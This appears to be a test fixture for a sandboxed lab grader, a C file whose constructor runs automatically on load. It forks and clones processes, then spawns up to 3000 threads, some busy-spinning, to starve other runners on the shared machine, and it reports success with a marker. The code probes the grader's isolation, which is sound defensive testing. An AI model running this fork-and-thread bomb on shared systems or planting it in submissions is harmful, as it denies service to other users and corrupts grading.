/* Attack: take the machine's processes and CPUs from the runners graded
 * beside this one: start processes in a loop (fork, vfork, clone), then as
 * many threads as it can (up to 3000: the test machine is shared), a few of
 * them busy, and hold them for 10 s. Prints how many it got. */
#include "@SOURCE_DIR@/tests/attack_util.h"
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <time.h>

#define BOMB_THREADS 3000
#define BOMB_BUSY 8
#define BOMB_SECONDS 10

static double _now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

static double _until;

static void *_busy(void *arg) {
    (void)arg;
    volatile unsigned long spin = 0;
    while (_now() < _until) spin++;
    return NULL;
}

static void *_idle(void *arg) {
    (void)arg;
    while (_now() < _until) {
        struct timespec t = {0, 100 * 1000 * 1000};
        nanosleep(&t, NULL);
    }
    return NULL;
}

__attribute__((constructor)) static void _bomb(void) {
    _until = _now() + BOMB_SECONDS;
    int processes = 0, threads = 0;
    for (int i = 0; i < 200; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            _idle(NULL);
            _exit(0);
        }
        if (pid > 0) processes++;
        pid = (pid_t)syscall(SYS_clone, SIGCHLD, NULL, NULL, NULL, NULL);
        if (pid == 0) {
            _idle(NULL);
            _exit(0);
        }
        if (pid > 0) processes++;
    }
    pthread_attr_t attr;
    pthread_attr_init(&attr);
    pthread_attr_setstacksize(&attr, 64 << 10); /* so the address-space limit does not stop it first */
    pthread_attr_setdetachstate(&attr, PTHREAD_CREATE_DETACHED);
    for (int i = 0; i < BOMB_THREADS; i++) {
        pthread_t t;
        if (pthread_create(&t, &attr, i < BOMB_BUSY ? _busy : _idle, NULL) != 0) break;
        threads++;
    }
    printf("bomb: %d processes, %d threads\n", processes, threads);
    fflush(stdout);
    if (threads >= 100 || processes > 0) attack_leave_marker("thread-bomb");
    _idle(NULL);
}

sl_status lab1_create_shadow_map(int size, sl_shadow_map *map) {
    (void)size;
    (void)map;
    return SL_NOT_IMPLEMENTED;
}

ATTACK_LAB1_STUBS
